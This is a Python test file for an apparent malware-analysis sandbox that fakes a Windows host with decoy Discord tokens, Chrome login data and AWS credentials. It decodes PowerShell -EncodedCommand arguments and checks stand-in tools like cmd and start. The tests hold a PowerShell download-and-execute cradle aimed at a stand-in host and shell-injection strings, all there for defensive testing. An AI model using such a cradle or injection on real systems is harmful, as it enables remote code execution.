"""The Windows persona's host side: decoys and environment, and PowerShell's -EncodedCommand
decoded from traced arguments (never from what the guest says)."""

from __future__ import annotations

import base64
import os
import sqlite3
import subprocess
import time

from pkgtrace.sandbox import bait, layout, persona


def _enc(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


def test_encoded_command_is_decoded_under_every_spelling_powershell_accepts():
    script = "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"
    for argv in (["powershell", "-EncodedCommand", _enc(script)],
                 ["powershell.exe", "-NoP", "-W", "Hidden", "-enc", _enc(script)],
                 ["PWSH", "-ec", _enc(script)], ["pwsh.exe", "/e", _enc(script)],
                 ["C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-e", _enc(script)]):
        assert persona.decode_powershell(argv) == script, argv


def test_look_alikes_are_not_decoded():
    assert persona.decode_powershell(["powershell", "-ExecutionPolicy", "Bypass", "-Command", "Get-Date"]) is None
    assert persona.decode_powershell(["python3", "-e", _enc("x")]) is None
    assert persona.decode_powershell(["powershell", "-enc"]) is None   # flag without a value


def test_each_run_gets_fresh_recognisable_decoys(tmp_path):
    a, b = bait.fresh(), bait.fresh()
    env = a.persona_env
    assert env["APPDATA"] == f"{layout.HOME}/AppData/Roaming" and env["OS"] == "Windows_NT"
    assert env["COMPUTERNAME"].startswith("DESKTOP-") and env["USERNAME"]
    token = dict(a.secrets)["discord_token"]
    assert token != dict(b.secrets)["discord_token"] and token.count(".") == 2
    leveldb = f"{layout.HOME}/AppData/Roaming/discord/Local Storage/leveldb/000005.ldb"
    assert token.encode() in a.files[leveldb]
    # Windows-style joins find the same decoy on Linux
    assert a.files[f"{layout.HOME}/AppData/Roaming\\discord\\Local Storage\\leveldb\\000005.ldb"] == a.files[leveldb]
    a.write(tmp_path)
    login = tmp_path / layout.HOME.lstrip("/") / "AppData/Local/Google/Chrome/User Data/Default/Login Data"
    rows = sqlite3.connect(login).execute("SELECT origin_url, password_value FROM logins").fetchall()
    assert rows and rows[0][1].startswith(b"v10")
    assert set(a.public()["files"]) >= {leveldb, f"{layout.HOME}/.aws/credentials"}


def test_stand_in_names_link_to_the_one_script(tmp_path):
    persona.write_tools(tmp_path / "winbin")
    for name in ("powershell", "cmd.exe", "certutil", "schtasks", "reg", "wmic", "curl.exe"):
        link = tmp_path / "winbin" / name
        assert link.is_symlink() and str(link.readlink()) == persona.STANDIN
        assert link.resolve() == (tmp_path / "winbin" / persona.STANDIN).resolve()
    script = tmp_path / "winbin" / persona.STANDIN
    assert script.stat().st_mode & 0o777 == 0o755 and script.read_text().startswith("#!/bin/sh")
    # the folder is the persona's, on the package user's PATH: nothing in it names pkgtrace
    assert not [p for p in (tmp_path / "winbin").iterdir() if "pkgtrace" in p.name.lower()]
    assert persona.GUEST_WINBIN == layout.WINTOOLS and "pkgtrace" not in layout.WINTOOLS


def _tool(tmp_path, *argv: str) -> subprocess.CompletedProcess:
    """Run a stand-in as the guest would: by its name, on a PATH that holds the real tools first."""
    if not (tmp_path / "winbin").exists():
        persona.write_tools(tmp_path / "winbin")
    env = {"PATH": f"{os.environ['PATH']}:{tmp_path / 'winbin'}"}  # as path_with_tools: real tools first
    return subprocess.run(list(argv), cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60)


def _appears(path, seconds: float = 60.0) -> bool:
    # a background start: wait for what it writes (the bound is generous, the check exact)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if path.exists() and path.read_text():
            return True
        time.sleep(0.1)
    return False


def test_start_and_cmd_run_what_windows_would_run(tmp_path):
    # a dropper writes a script and `start`s it (os.system("start python FILE"), os.startfile)
    script = tmp_path / "stage2.py"
    script.write_text("import sys\nopen(sys.argv[1], 'w').write('ran')\n")
    waited = tmp_path / "waited"
    r = _tool(tmp_path, str(tmp_path / "winbin" / "start"), "", "/MIN", "/WAIT", "python3", str(script), str(waited))
    assert r.returncode == 0 and waited.read_text() == "ran"
    background = tmp_path / "background"
    r = _tool(tmp_path, str(tmp_path / "winbin" / "start"), "python3", str(script), str(background))
    assert r.returncode == 0 and _appears(background)
    # os.startfile's spelling: cmd.exe /c start "" FILE, a .py file run by python3 as its association
    script.write_text(f"open({str(tmp_path / 'assoc')!r}, 'w').write('ran')\n")
    r = _tool(tmp_path, str(tmp_path / "winbin" / "cmd.exe"), "/c", "start", "", str(script))
    assert r.returncode == 0 and _appears(tmp_path / "assoc")
    # cmd /c with the command as one string
    r = _tool(tmp_path, str(tmp_path / "winbin" / "cmd"), "/c", f"python3 {script}")
    assert r.returncode == 0


def test_start_and_cmd_run_nothing_that_is_not_a_program_here(tmp_path):
    # a URL or a document opened the Windows way (webbrowser, os.startfile of a README), cmd's own
    # words, and a shell line: nothing runs, the call still answers 0
    marker = tmp_path / "marker"
    for argv in (("start", "https://example.com/docs"), ("start", "", str(tmp_path / "README.txt")),
                 ("cmd", "/c", "ver"), ("cmd", "/c", f"echo x > {marker}"), ("cmd", "/c", f"touch {marker}; id"),
                 ("start", "$(touch " + str(marker) + ")")):
        r = _tool(tmp_path, str(tmp_path / "winbin" / argv[0]), *argv[1:])
        assert r.returncode in (0, 1), (argv, r.stderr)
    assert not marker.exists()
